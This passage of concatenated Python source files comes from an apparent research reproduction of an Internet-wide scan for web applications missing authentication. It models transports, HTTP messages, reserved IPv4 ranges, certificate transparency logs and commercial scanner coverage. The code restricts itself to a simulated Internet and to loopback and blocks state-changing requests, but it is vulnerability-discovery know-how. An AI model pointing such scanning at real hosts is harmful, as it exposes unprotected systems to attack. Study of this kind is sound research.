        raise NotImplementedError(
            f"{type(self).__name__} does not support sharded scanning"
        )

    def request(
        self, ip: IPv4Address, port: int, scheme: Scheme, request: HttpRequest
    ) -> HttpResponse:
        """One HTTP(S) round trip; raises TransportError on failure."""
        if self.enforce_ethics and request.is_state_changing:
            raise EthicsViolation(
                f"scan attempted a {request.method} to {ip}:{port}{request.path}; "
                "the pipeline must only send non-state-changing requests"
            )
        self.stats.note_request(ip)
        return self._exchange(ip, port, scheme, request)

    def fetch_certificate(self, ip: IPv4Address, port: int):
        """The TLS certificate on (ip, port), or None.

        Used by the responsible-disclosure workflow ("we try to connect
        to each via HTTPS and inspected the returned certificate").
        Backends without TLS visibility return None.
        """
        return None

    def get(
        self,
        ip: IPv4Address,
        port: int,
        path: str,
        scheme: Scheme = Scheme.HTTP,
        follow_redirects: int = 5,
    ) -> HttpResponse:
        """GET with bounded redirect following (same host only).

        The paper's stage II "followed redirects until we received a
        response body"; cross-host redirects are not followed because the
        scan is per-IP.
        """
        response = self.request(ip, port, scheme, HttpRequest.get(path, scheme))
        hops = 0
        while response.is_redirect and hops < follow_redirects:
            location = response.location or "/"
            if "://" in location:
                # Absolute URL: only follow if it stays on this host.
                _, _, rest = location.partition("://")
                hostpart, _, pathpart = rest.partition("/")
                if hostpart.split(":")[0] != str(ip):
                    break
                location = "/" + pathpart
            if not location.startswith("/"):
                location = "/" + location
            response = self.request(ip, port, scheme, HttpRequest.get(location, scheme))
            hops += 1
        return response


class InMemoryTransport(Transport):
    """Transport backed by a :class:`~repro.net.network.SimulatedInternet`."""

    def __init__(self, internet, enforce_ethics: bool = True) -> None:
        super().__init__(enforce_ethics=enforce_ethics)
        self.internet = internet

    def _port_open(self, ip: IPv4Address, port: int) -> bool:
        return self.internet.is_port_open(ip, port)

    def probe_ports(self, ip: IPv4Address, ports: Sequence[int]) -> list[int]:
        # One host lookup serves all twelve ports; the probes are counted
        # exactly as the per-port path would count them.
        self.stats.syn_probes += len(ports)
        host = self.internet.host_at(ip)
        if host is None:
            return []
        return [port for port in ports if host.is_port_open(port)]

    def live_values_in(self, start: int, end: int) -> Sequence[int] | None:
        # Populated addresses are the only ones that can answer; offline
        # hosts stay in the hint (they answer nothing when probed, which
        # is exactly what probing them individually reports).
        return self.internet.populated_values_in(start, end)

    def fork(self, shard_seed: int, clock=None) -> "InMemoryTransport":
        # The simulated Internet is read-only during a sweep; only the
        # stats block is mutable, and the fork gets its own.
        return InMemoryTransport(self.internet, enforce_ethics=self.enforce_ethics)

    def _exchange(
        self, ip: IPv4Address, port: int, scheme: Scheme, request: HttpRequest
    ) -> HttpResponse:
        return self.internet.exchange(ip, port, scheme, request)

    def fetch_certificate(self, ip: IPv4Address, port: int):
        self.stats.note_probe(ip)
        return self.internet.certificate_on(ip, port)
