"""A compact HTTP/1.1 message model.

The application emulators, the scanning pipeline, and the honeypot monitor
all exchange :class:`HttpRequest`/:class:`HttpResponse` values.  The model
covers what the paper's pipeline needs: methods, paths with query strings,
headers, bodies, redirects, and wire (de)serialisation so the same messages
can travel over the real-socket transport.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Mapping
from urllib.parse import parse_qsl, urlsplit


class Scheme(enum.Enum):
    """Application-layer protocol spoken on a port."""

    HTTP = "http"
    HTTPS = "https"

    def __str__(self) -> str:
        return self.value


REASON_PHRASES = {
    200: "OK",
    201: "Created",
    204: "No Content",
    301: "Moved Permanently",
    302: "Found",
    303: "See Other",
    307: "Temporary Redirect",
    400: "Bad Request",
    401: "Unauthorized",
    403: "Forbidden",
    404: "Not Found",
    405: "Method Not Allowed",
    500: "Internal Server Error",
    502: "Bad Gateway",
    503: "Service Unavailable",
}

REDIRECT_CODES = frozenset({301, 302, 303, 307, 308})


def _canonical(headers: Mapping[str, str] | None) -> dict[str, str]:
    """Lower-case header names; HTTP header names are case-insensitive."""
    if not headers:
        return {}
    return {name.lower(): value for name, value in headers.items()}


@dataclass(frozen=True)
class HttpRequest:
    """An HTTP request as seen by a service or honeypot monitor."""

    method: str
    path: str
    headers: Mapping[str, str] = field(default_factory=dict)
    body: str = ""
    scheme: Scheme = Scheme.HTTP

    def __post_init__(self) -> None:
        object.__setattr__(self, "headers", _canonical(self.headers))
        if not self.path.startswith("/"):
            raise ValueError(f"request path must be absolute: {self.path!r}")

    @classmethod
    def get(cls, path: str, scheme: Scheme = Scheme.HTTP) -> "HttpRequest":
        return cls("GET", path, scheme=scheme)

    @classmethod
    def post(
        cls,
        path: str,
        body: str = "",
        scheme: Scheme = Scheme.HTTP,
        headers: Mapping[str, str] | None = None,
    ) -> "HttpRequest":
        return cls("POST", path, headers=headers or {}, body=body, scheme=scheme)

    @property
    def path_only(self) -> str:
        """The path with any query string removed."""
        return urlsplit(self.path).path

    @property
    def query(self) -> dict[str, str]:
        """Query-string parameters (last value wins on duplicates)."""
        return dict(parse_qsl(urlsplit(self.path).query, keep_blank_values=True))

    @property
    def form(self) -> dict[str, str]:
        """Body parsed as a urlencoded form."""
        return dict(parse_qsl(self.body, keep_blank_values=True))

    @property
    def is_state_changing(self) -> bool:
        """True for methods an ethical scanner must not send."""
        return self.method.upper() not in ("GET", "HEAD", "OPTIONS")

    def to_wire(self) -> bytes:
        """Serialise for the socket transport."""
        lines = [f"{self.method} {self.path} HTTP/1.1"]
        headers = dict(self.headers)
        headers.setdefault("content-length", str(len(self.body.encode())))
        for name, value in sorted(headers.items()):
            lines.append(f"{name}: {value}")
        return ("\r\n".join(lines) + "\r\n\r\n" + self.body).encode()


@dataclass(frozen=True)
class HttpResponse:
    """An HTTP response as produced by a service."""

    status: int
    headers: Mapping[str, str] = field(default_factory=dict)
    body: str = ""

    def __post_init__(self) -> None:
        object.__setattr__(self, "headers", _canonical(self.headers))

    @classmethod
    def ok(cls, body: str, content_type: str = "text/html") -> "HttpResponse":
        return cls(200, {"content-type": content_type}, body)

    @classmethod
    def html(cls, body: str, status: int = 200) -> "HttpResponse":
        return cls(status, {"content-type": "text/html"}, body)

    @classmethod
    def json(cls, body: str, status: int = 200) -> "HttpResponse":
        return cls(status, {"content-type": "application/json"}, body)

    @classmethod
    def redirect(cls, location: str, status: int = 302) -> "HttpResponse":
        if status not in REDIRECT_CODES:
            raise ValueError(f"{status} is not a redirect status")
        return cls(status, {"location": location})

    @classmethod
    def not_found(cls, body: str = "404 Not Found") -> "HttpResponse":
        return cls(404, {"content-type": "text/html"}, body)

    @classmethod
    def unauthorized(cls, realm: str = "restricted") -> "HttpResponse":
        return cls(
            401,
            {"www-authenticate": f'Basic realm="{realm}"', "content-type": "text/html"},
            "<html><body>401 Authorization Required</body></html>",
        )

    @classmethod
    def forbidden(cls, body: str = "403 Forbidden") -> "HttpResponse":
        return cls(403, {"content-type": "text/html"}, body)

    @property
    def reason(self) -> str:
        return REASON_PHRASES.get(self.status, "Unknown")

    @property
    def is_redirect(self) -> bool:
        return self.status in REDIRECT_CODES and "location" in self.headers

    @property
    def location(self) -> str | None:
        return self.headers.get("location")

    @property
    def content_type(self) -> str:
        return self.headers.get("content-type", "")

    def to_wire(self) -> bytes:
        """Serialise for the socket transport."""
        lines = [f"HTTP/1.1 {self.status} {self.reason}"]
        headers = dict(self.headers)
        headers.setdefault("content-length", str(len(self.body.encode())))
        for name, value in sorted(headers.items()):
            lines.append(f"{name}: {value}")
        return ("\r\n".join(lines) + "\r\n\r\n" + self.body).encode()


def parse_wire_request(raw: bytes) -> HttpRequest:
    """Parse a serialised request (socket transport receive path)."""
    head, _, body = raw.partition(b"\r\n\r\n")
    lines = head.decode(errors="replace").split("\r\n")
    method, path, _version = lines[0].split(" ", 2)
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    return HttpRequest(method, path, headers=headers, body=body.decode(errors="replace"))


def parse_wire_response(raw: bytes) -> HttpResponse:
    """Parse a serialised response (socket transport receive path)."""
    head, _, body = raw.partition(b"\r\n\r\n")
    lines = head.decode(errors="replace").split("\r\n")
    parts = lines[0].split(" ", 2)
    status = int(parts[1])
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    return HttpResponse(status, headers=headers, body=body.decode(errors="replace"))
