"""Failure injection: a transport that loses packets.

The paper's false-negative discussion (§6.2): the scan "missed hosts
that were unresponsive [or] temporarily unavailable".  Wrapping any
transport in :class:`FlakyTransport` makes SYN probes and HTTP requests
fail with seeded probabilities, so tests and benches can measure how the
pipeline's recall degrades under packet loss — and verify that nothing
*crashes* when the network misbehaves.
"""

from __future__ import annotations

import random

from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.util.errors import ConnectionTimeout
from repro.util.rand import rng_state_from_json, rng_state_to_json, stable_hash


class FlakyTransport(Transport):
    """Decorator transport with independent per-operation loss."""

    def __init__(
        self,
        inner: Transport,
        syn_loss: float = 0.0,
        request_loss: float = 0.0,
        seed: int = 0,
    ) -> None:
        super().__init__(enforce_ethics=inner.enforce_ethics)
        if not 0.0 <= syn_loss <= 1.0 or not 0.0 <= request_loss <= 1.0:
            raise ValueError("loss rates must be in [0, 1]")
        self.inner = inner
        # Share the innermost transport's stats: wrapping must not split
        # syn_probes/http_requests/per-/24 counters across decorators.
        self.stats = inner.stats
        self.syn_loss = syn_loss
        self.request_loss = request_loss
        self.seed = seed
        self._rng = random.Random(seed)
        self.dropped_probes = 0
        self.dropped_requests = 0

    def fork(self, shard_seed: int, clock=None) -> "FlakyTransport":
        """A shard-local loss layer with its own deterministic RNG."""
        return FlakyTransport(
            self.inner.fork(shard_seed, clock),
            syn_loss=self.syn_loss,
            request_loss=self.request_loss,
            seed=stable_hash(self.seed, "flaky-shard", shard_seed),
        )

    def _port_open(self, ip: IPv4Address, port: int) -> bool:
        if self._rng.random() < self.syn_loss:
            self.dropped_probes += 1
            return False  # a lost SYN/ACK looks like a filtered port
        return self.inner._port_open(ip, port)

    def _exchange(
        self, ip: IPv4Address, port: int, scheme: Scheme, request: HttpRequest
    ) -> HttpResponse:
        if self._rng.random() < self.request_loss:
            self.dropped_requests += 1
            raise ConnectionTimeout(f"request to {ip}:{port} timed out (injected)")
        return self.inner._exchange(ip, port, scheme, request)

    def fetch_certificate(self, ip: IPv4Address, port: int):
        if self._rng.random() < self.request_loss:
            # Consistent with the request path: a drop is a timeout, not a
            # silent "no certificate" — callers must treat it as transient.
            self.dropped_requests += 1
            raise ConnectionTimeout(
                f"TLS handshake with {ip}:{port} timed out (injected)"
            )
        return self.inner.fetch_certificate(ip, port)

    # -- checkpoint support ------------------------------------------------

    def snapshot_state(self) -> dict:
        """Capture the injected-fault stream for checkpoint/resume."""
        return {
            "rng": rng_state_to_json(self._rng.getstate()),
            "dropped_probes": self.dropped_probes,
            "dropped_requests": self.dropped_requests,
        }

    def restore_state(self, state: dict) -> None:
        self._rng.setstate(rng_state_from_json(state["rng"]))
        self.dropped_probes = state["dropped_probes"]
        self.dropped_requests = state["dropped_requests"]
