"""Serve an application emulator over real TCP on localhost.

This exists to demonstrate that the scanning pipeline is transport-
agnostic: the same stages that sweep the simulated Internet can probe a
real socket.  :class:`LocalAppServer` runs an emulator behind a real
``http.server`` on 127.0.0.1, and :class:`SocketTransport` implements the
:class:`~repro.net.transport.Transport` interface with genuine TCP
connects and HTTP requests.

Nothing here ever talks to a non-loopback address; the constructor
refuses anything but 127.0.0.1.
"""

from __future__ import annotations

import http.client
import http.server
import socket
import threading

from repro.apps.base import WebApplication
from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.util.errors import ConfigError, ConnectionRefused, ConnectionTimeout

LOOPBACK = "127.0.0.1"


class _EmulatorHandler(http.server.BaseHTTPRequestHandler):
    """Bridges http.server requests into the emulator's handle()."""

    app: WebApplication  # set on the subclass created per server
    protocol_version = "HTTP/1.1"

    def _dispatch(self) -> None:
        length = int(self.headers.get("content-length", 0) or 0)
        body = self.rfile.read(length).decode(errors="replace") if length else ""
        request = HttpRequest(
            self.command,
            self.path,
            headers={k.lower(): v for k, v in self.headers.items()},
            body=body,
        )
        response = self.app.handle(request)
        payload = response.body.encode()
        self.send_response(response.status)
        for name, value in response.headers.items():
            if name != "content-length":
                self.send_header(name, value)
        self.send_header("content-length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    do_GET = _dispatch
    do_POST = _dispatch
    do_PUT = _dispatch
    do_HEAD = _dispatch

    def log_message(self, format: str, *args: object) -> None:
        pass  # keep test output clean


class LocalAppServer:
    """An emulator listening on a real loopback socket.

    Usable as a context manager::

        with LocalAppServer(create_instance('jupyter-notebook', vulnerable=True)) as srv:
            transport = SocketTransport()
            response = transport.get(srv.ip, srv.port, '/api/terminals')
    """

    def __init__(self, app: WebApplication, port: int = 0) -> None:
        handler = type("BoundHandler", (_EmulatorHandler,), {"app": app})
        self.app = app
        self._httpd = http.server.ThreadingHTTPServer((LOOPBACK, port), handler)
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)

    @property
    def port(self) -> int:
        return self._httpd.server_address[1]

    @property
    def ip(self) -> IPv4Address:
        return IPv4Address.parse(LOOPBACK)

    def start(self) -> "LocalAppServer":
        self._thread.start()
        return self

    def stop(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()

    def __enter__(self) -> "LocalAppServer":
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


class SocketTransport(Transport):
    """Transport over real TCP, restricted to the loopback interface."""

    def __init__(self, timeout: float = 2.0, enforce_ethics: bool = True) -> None:
        super().__init__(enforce_ethics=enforce_ethics)
        self.timeout = timeout

    def _check_loopback(self, ip: IPv4Address) -> None:
        if str(ip) != LOOPBACK:
            raise ConfigError(
                f"SocketTransport only talks to {LOOPBACK}; refusing {ip}"
            )

    def _port_open(self, ip: IPv4Address, port: int) -> bool:
        self._check_loopback(ip)
        try:
            with socket.create_connection((str(ip), port), timeout=self.timeout):
                return True
        except OSError:
            return False

    def _exchange(
        self, ip: IPv4Address, port: int, scheme: Scheme, request: HttpRequest
    ) -> HttpResponse:
        self._check_loopback(ip)
        if scheme is Scheme.HTTPS:
            raise ConnectionTimeout("loopback demo server speaks plain HTTP only")
        try:
            connection = http.client.HTTPConnection(str(ip), port, timeout=self.timeout)
            connection.request(
                request.method, request.path, body=request.body or None,
                headers=dict(request.headers),
            )
            raw = connection.getresponse()
            body = raw.read().decode(errors="replace")
            headers = {k.lower(): v for k, v in raw.getheaders()}
            connection.close()
            return HttpResponse(raw.status, headers=headers, body=body)
        except ConnectionRefusedError as exc:
            raise ConnectionRefused(str(exc)) from exc
        except OSError as exc:
            raise ConnectionTimeout(str(exc)) from exc
