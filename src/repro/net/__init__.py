"""Simulated Internet substrate.

This subpackage provides everything the scanning pipeline observes when it
"scans the Internet": an IPv4 address space (:mod:`repro.net.ipv4`), an
HTTP message model (:mod:`repro.net.http`), simulated hosts and services
(:mod:`repro.net.host`), the network itself (:mod:`repro.net.network`),
a transport abstraction that also works over real sockets
(:mod:`repro.net.transport`), an IP metadata service (:mod:`repro.net.geo`),
a census-calibrated population generator (:mod:`repro.net.population`),
and host churn over time (:mod:`repro.net.lifecycle`).
"""

from repro.net.ipv4 import IPv4Address, IPv4Network, iana_reserved_networks
from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.transport import Transport, InMemoryTransport
from repro.net.host import Host, Service
from repro.net.network import SimulatedInternet
from repro.net.geo import GeoDatabase, IpMetadata
from repro.net.population import PopulationModel, generate_internet
from repro.net.lifecycle import LifecycleModel

__all__ = [
    "IPv4Address",
    "IPv4Network",
    "iana_reserved_networks",
    "HttpRequest",
    "HttpResponse",
    "Scheme",
    "Transport",
    "InMemoryTransport",
    "Host",
    "Service",
    "SimulatedInternet",
    "GeoDatabase",
    "IpMetadata",
    "PopulationModel",
    "generate_internet",
    "LifecycleModel",
]
