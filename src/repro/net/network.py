"""The simulated IPv4 Internet.

A sparse map from address to :class:`~repro.net.host.Host`: only hosts
that exist (are online and listen somewhere) are materialised; every other
address behaves like an unused one (SYN probes go unanswered).  This makes
an "Internet-wide" sweep tractable — the scanner still iterates candidate
addresses, but only populated ones cost memory.
"""

from __future__ import annotations

from bisect import bisect_left, bisect_right
from typing import Iterator

from repro.net.host import Host, HostKind
from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.util.errors import ConnectionTimeout


class SimulatedInternet:
    """Sparse IPv4 space with host lookup and HTTP exchange."""

    def __init__(self) -> None:
        self._hosts: dict[int, Host] = {}
        self._sorted_values: list[int] | None = None

    # -- population --------------------------------------------------------

    def add_host(self, host: Host) -> None:
        if host.ip.value in self._hosts:
            raise ValueError(f"duplicate host at {host.ip}")
        self._hosts[host.ip.value] = host
        self._sorted_values = None

    def remove_host(self, ip: IPv4Address) -> None:
        self._hosts.pop(ip.value, None)
        self._sorted_values = None

    def host_at(self, ip: IPv4Address) -> Host | None:
        return self._hosts.get(ip.value)

    def __len__(self) -> int:
        return len(self._hosts)

    def hosts(self) -> Iterator[Host]:
        yield from self._hosts.values()

    def online_hosts(self) -> Iterator[Host]:
        return (h for h in self._hosts.values() if h.online)

    def awe_hosts(self) -> Iterator[Host]:
        return (h for h in self.online_hosts() if h.kind is HostKind.AWE)

    def populated_addresses(self) -> list[IPv4Address]:
        """All addresses with a host, sorted (deterministic iteration)."""
        return [IPv4Address(v) for v in sorted(self._hosts)]

    def populated_values_in(self, start: int, end: int) -> list[int]:
        """Raw address ints with a host inside inclusive ``[start, end]``.

        Backed by a sorted-key cache (rebuilt after population changes),
        so the interval fast path in stage I can classify a /24 block
        with two bisections instead of 256 dictionary lookups.
        """
        if self._sorted_values is None:
            self._sorted_values = sorted(self._hosts)
        values = self._sorted_values
        lo = bisect_left(values, start)
        hi = bisect_right(values, end)
        return values[lo:hi]

    # -- what the wire exposes ------------------------------------------------

    def is_port_open(self, ip: IPv4Address, port: int) -> bool:
        host = self._hosts.get(ip.value)
        return host.is_port_open(port) if host else False

    def exchange(
        self, ip: IPv4Address, port: int, scheme: Scheme, request: HttpRequest
    ) -> HttpResponse:
        host = self._hosts.get(ip.value)
        if host is None:
            raise ConnectionTimeout(f"no route to {ip}")
        return host.exchange(port, scheme, request)

    def certificate_on(self, ip: IPv4Address, port: int):
        """The TLS certificate presented on (ip, port), if any."""
        host = self._hosts.get(ip.value)
        return host.certificate_on(port) if host else None

    # -- ground truth for evaluating the pipeline --------------------------------

    def true_vulnerable_hosts(self) -> list[Host]:
        """Hosts that actually expose a MAV (simulator omniscience).

        The scanning pipeline must *infer* this set from HTTP responses;
        tests compare its output against this ground truth to measure
        false positives/negatives.
        """
        return [h for h in self.online_hosts() if h.has_vulnerable_app()]

    def hosts_running(self, slug: str) -> list[Host]:
        return [
            h for h in self.online_hosts()
            if any(inst.slug == slug for inst in h.apps())
        ]


def allocate_addresses(
    rng, count: int, taken: set[int], avoid_reserved: bool = True
) -> list[IPv4Address]:
    """Draw ``count`` distinct, non-reserved, unused IPv4 addresses."""
    from repro.net.ipv4 import MAX_IPV4, is_reserved

    out: list[IPv4Address] = []
    while len(out) < count:
        value = rng.randrange(0, MAX_IPV4 + 1)
        if value in taken:
            continue
        address = IPv4Address(value)
        if avoid_reserved and is_reserved(address):
            continue
        taken.add(value)
        out.append(address)
    return out
