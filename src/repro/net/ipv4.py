"""IPv4 addresses, CIDR networks, and the IANA reserved ranges.

We implement our own small address types rather than using :mod:`ipaddress`
because the scanner works with addresses as plain integers in hot loops
(masscan-style block permutation over billions of candidates) and the
stdlib types allocate an object per address.  The types here are thin,
hashable value objects around an ``int`` with conversion helpers.
"""

from __future__ import annotations

from bisect import bisect_right
from dataclasses import dataclass
from typing import Iterator

MAX_IPV4 = 2**32 - 1


@dataclass(frozen=True, order=True)
class IPv4Address:
    """An IPv4 address stored as an unsigned 32-bit integer."""

    value: int

    def __post_init__(self) -> None:
        if not 0 <= self.value <= MAX_IPV4:
            raise ValueError(f"not a valid IPv4 address integer: {self.value}")

    @classmethod
    def parse(cls, text: str) -> "IPv4Address":
        parts = text.strip().split(".")
        if len(parts) != 4:
            raise ValueError(f"not a dotted quad: {text!r}")
        value = 0
        for part in parts:
            if not part.isdigit():
                raise ValueError(f"not a dotted quad: {text!r}")
            octet = int(part)
            if octet > 255:
                raise ValueError(f"octet out of range in {text!r}")
            value = (value << 8) | octet
        return cls(value)

    @property
    def octets(self) -> tuple[int, int, int, int]:
        v = self.value
        return ((v >> 24) & 0xFF, (v >> 16) & 0xFF, (v >> 8) & 0xFF, v & 0xFF)

    @property
    def slash24(self) -> "IPv4Network":
        """The /24 block containing this address."""
        return IPv4Network(IPv4Address(self.value & 0xFFFFFF00), 24)

    def __str__(self) -> str:
        return ".".join(str(o) for o in self.octets)

    def __int__(self) -> int:
        return self.value


@dataclass(frozen=True, order=True)
class IPv4Network:
    """A CIDR block, e.g. ``10.0.0.0/8``."""

    network: IPv4Address
    prefix: int

    def __post_init__(self) -> None:
        if not 0 <= self.prefix <= 32:
            raise ValueError(f"invalid prefix length: {self.prefix}")
        if self.network.value & (self.host_mask) != 0:
            raise ValueError(
                f"{self.network}/{self.prefix} has host bits set"
            )

    @classmethod
    def parse(cls, text: str) -> "IPv4Network":
        addr_text, _, prefix_text = text.partition("/")
        if not prefix_text:
            raise ValueError(f"missing prefix length in {text!r}")
        return cls(IPv4Address.parse(addr_text), int(prefix_text))

    @property
    def netmask(self) -> int:
        return (0xFFFFFFFF << (32 - self.prefix)) & 0xFFFFFFFF

    @property
    def host_mask(self) -> int:
        return (1 << (32 - self.prefix)) - 1

    @property
    def size(self) -> int:
        """Number of addresses in the block."""
        return 1 << (32 - self.prefix)

    @property
    def first(self) -> IPv4Address:
        return self.network

    @property
    def last(self) -> IPv4Address:
        return IPv4Address(self.network.value | self.host_mask)

    def contains(self, address: IPv4Address) -> bool:
        return (address.value & self.netmask) == self.network.value

    def addresses(self) -> Iterator[IPv4Address]:
        """Iterate every address in the block (use only on small blocks)."""
        for value in range(self.network.value, self.network.value + self.size):
            yield IPv4Address(value)

    def subnets_24(self) -> Iterator["IPv4Network"]:
        """Iterate the /24 blocks inside this network."""
        if self.prefix > 24:
            raise ValueError("network smaller than a /24")
        for base in range(self.network.value, self.network.value + self.size, 256):
            yield IPv4Network(IPv4Address(base), 24)

    def __str__(self) -> str:
        return f"{self.network}/{self.prefix}"

    def __contains__(self, address: object) -> bool:
        return isinstance(address, IPv4Address) and self.contains(address)


# The IANA special-purpose / reserved allocations the paper excludes
# (multicast, private use, loopback, link-local, DoD, documentation, ...).
# Removing them leaves roughly 3.5B scannable addresses, matching the paper.
_RESERVED_CIDRS = (
    "0.0.0.0/8",        # "this network"
    "6.0.0.0/8",        # US DoD (Army Information Systems Center)
    "7.0.0.0/8",        # US DoD (DISA)
    "10.0.0.0/8",       # private use
    "11.0.0.0/8",       # US DoD (DoD Intel Information Systems)
    "21.0.0.0/8",       # US DoD (DDN-RVN)
    "22.0.0.0/8",       # US DoD (DISA)
    "26.0.0.0/8",       # US DoD (DISA)
    "28.0.0.0/8",       # US DoD (DSI-North)
    "29.0.0.0/8",       # US DoD (DISA)
    "30.0.0.0/8",       # US DoD (DISA)
    "33.0.0.0/8",       # US DoD (DLA)
    "55.0.0.0/8",       # US DoD (Army)
    "100.64.0.0/10",    # carrier-grade NAT
    "127.0.0.0/8",      # loopback
    "169.254.0.0/16",   # link local
    "172.16.0.0/12",    # private use
    "192.0.0.0/24",     # IETF protocol assignments
    "192.0.2.0/24",     # documentation (TEST-NET-1)
    "192.88.99.0/24",   # 6to4 relay anycast
    "192.168.0.0/16",   # private use
    "198.18.0.0/15",    # benchmarking
    "198.51.100.0/24",  # documentation (TEST-NET-2)
    "203.0.113.0/24",   # documentation (TEST-NET-3)
    "214.0.0.0/7",      # US DoD (DDN)
    "224.0.0.0/4",      # multicast
    "240.0.0.0/4",      # reserved for future use
)


def iana_reserved_networks() -> tuple[IPv4Network, ...]:
    """The CIDR blocks excluded from the Internet-wide scan."""
    return tuple(IPv4Network.parse(cidr) for cidr in _RESERVED_CIDRS)


def is_reserved(address: IPv4Address) -> bool:
    """True if the address falls in an IANA reserved allocation.

    This sits on the stage-I hot path (every candidate address passes
    through it), so instead of probing all 27 networks it bisects a
    precomputed table of (non-overlapping) integer ranges.
    """
    value = address.value
    index = bisect_right(_RESERVED_STARTS, value) - 1
    return index >= 0 and value <= _RESERVED_ENDS[index]


_RESERVED_NETWORKS = iana_reserved_networks()
_RESERVED_STARTS, _RESERVED_ENDS = (
    tuple(bounds)
    for bounds in zip(*sorted(
        (net.first.value, net.last.value) for net in _RESERVED_NETWORKS
    ))
)


def scannable_address_count() -> int:
    """Number of addresses left after removing reserved allocations.

    The reserved blocks above do not overlap, so the count is exact.  The
    paper reports "roughly 3.5B" scannable addresses.
    """
    return (MAX_IPV4 + 1) - sum(net.size for net in _RESERVED_NETWORKS)
