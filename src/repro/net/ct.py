"""Certificate Transparency log substrate.

The paper's §6.2: "attackers could increase the likelihood to discover
unsecured applications and unfinished installations by using Certificate
Transparency (CT) logs to discover newly registered domains and scan
those preferably instead of a full sweep of the IPv4 space."

This module models the observable part of CT: an append-only public log
of certificate issuances.  CAs publish every certificate they issue
(self-signed certificates never appear); anyone — including attackers —
can tail the log and learn (domain, time) pairs the moment a new
deployment obtains its certificate.
"""

from __future__ import annotations

import bisect
from dataclasses import dataclass, field

from repro.net.tls import Certificate


@dataclass(frozen=True)
class CtEntry:
    """One precertificate entry as a log monitor sees it."""

    index: int
    logged_at: float
    domain: str
    certificate: Certificate


@dataclass
class CertificateTransparencyLog:
    """Append-only, publicly readable certificate log."""

    entries: list[CtEntry] = field(default_factory=list)
    _times: list[float] = field(default_factory=list)

    def submit(self, certificate: Certificate, logged_at: float) -> CtEntry | None:
        """CA-side submission; self-signed certs never reach the log."""
        if certificate.self_signed:
            return None
        if self._times and logged_at < self._times[-1]:
            raise ValueError("CT log is append-only; entries must be in time order")
        domain = certificate.contact_domain() or certificate.common_name
        entry = CtEntry(
            index=len(self.entries),
            logged_at=logged_at,
            domain=domain,
            certificate=certificate,
        )
        self.entries.append(entry)
        self._times.append(logged_at)
        return entry

    def entries_between(self, since: float, until: float) -> list[CtEntry]:
        """Monitor-side poll: entries logged in ``(since, until]``."""
        lo = bisect.bisect_right(self._times, since)
        hi = bisect.bisect_right(self._times, until)
        return self.entries[lo:hi]

    def __len__(self) -> int:
        return len(self.entries)
