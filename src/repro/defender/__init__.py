"""Defender-side security scanners (paper §5).

Models the two commercial, industry-leading scanners the paper ran
against its honeypots.  Their identities are withheld in the paper, so we
model them as *Scanner 1* and *Scanner 2* with exactly the detection
coverage the paper reports, implemented as genuine (but narrow) HTTP
checks rather than hard-coded verdicts — the point the paper makes is
that their plugin coverage, not their scanning machinery, is what lags.
"""

from repro.defender.scanners import (
    CommercialScanner,
    FindingSeverity,
    ScannerFinding,
    ScannerRun,
    make_scanner_1,
    make_scanner_2,
)

__all__ = [
    "CommercialScanner",
    "FindingSeverity",
    "ScannerFinding",
    "ScannerRun",
    "make_scanner_1",
    "make_scanner_2",
]
