"""Simulated commercial vulnerability scanners.

Each scanner owns a set of *vulnerability checks* (real HTTP probes
reusing our plugin logic for the applications its vendor supports) and a
set of *informational fingerprints* (it can tell you the software is
there but raises no vulnerability).  Scan speed is modelled too: the
paper notes the second scanner took "several hours", long enough that
honeypots were compromised mid-scan.

Coverage is taken from §5:

* Scanner 1 detects 5/18: Consul, Docker, Jupyter Notebook, WordPress,
  Hadoop.
* Scanner 2 detects 3/18: Consul, Docker, Jenkins — and flags Joomla,
  phpMyAdmin, Kubernetes, Hadoop as informational findings only.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.core.prefilter import match_signatures
from repro.core.tsunami.plugin import PluginContext
from repro.core.tsunami.plugins import plugin_for
from repro.net.http import Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.util.clock import HOUR, MINUTE
from repro.util.errors import TransportError


class FindingSeverity(enum.Enum):
    VULNERABILITY = "vulnerability"
    INFORMATIONAL = "informational"


@dataclass(frozen=True)
class ScannerFinding:
    scanner: str
    target: str          # honeypot slug / host label
    ip: IPv4Address
    port: int
    slug: str
    severity: FindingSeverity
    title: str


@dataclass
class ScannerRun:
    """Results and cost of one scanner invocation."""

    scanner: str
    findings: list[ScannerFinding] = field(default_factory=list)
    duration_seconds: float = 0.0
    requests_sent: int = 0
    #: per-target (start, end) offsets within the scan, in seconds —
    #: the basis of the "too slow to beat the attackers" analysis
    visit_windows: dict[str, tuple[float, float]] = field(default_factory=dict)

    def detected_slugs(self) -> set[str]:
        return {
            f.slug for f in self.findings
            if f.severity is FindingSeverity.VULNERABILITY
        }

    def informational_slugs(self) -> set[str]:
        return {
            f.slug for f in self.findings
            if f.severity is FindingSeverity.INFORMATIONAL
        }


@dataclass
class CommercialScanner:
    """A commercial scanner with fixed plugin coverage."""

    name: str
    #: applications for which the vendor ships a MAV vulnerability check
    vulnerability_coverage: frozenset[str]
    #: applications only fingerprinted, never flagged as vulnerable
    informational_coverage: frozenset[str]
    #: simulated wall-clock cost per probe request
    seconds_per_request: float = 0.5
    #: extra per-host overhead (port enumeration, service discovery, ...)
    seconds_per_host: float = 60.0

    def scan_host(
        self,
        transport: Transport,
        label: str,
        ip: IPv4Address,
        port: int,
        scheme: Scheme = Scheme.HTTP,
    ) -> ScannerRun:
        """Scan a single host (one honeypot machine)."""
        run = ScannerRun(scanner=self.name)
        before = transport.stats.http_requests
        run.duration_seconds += self.seconds_per_host

        # Service discovery: what is running here?
        try:
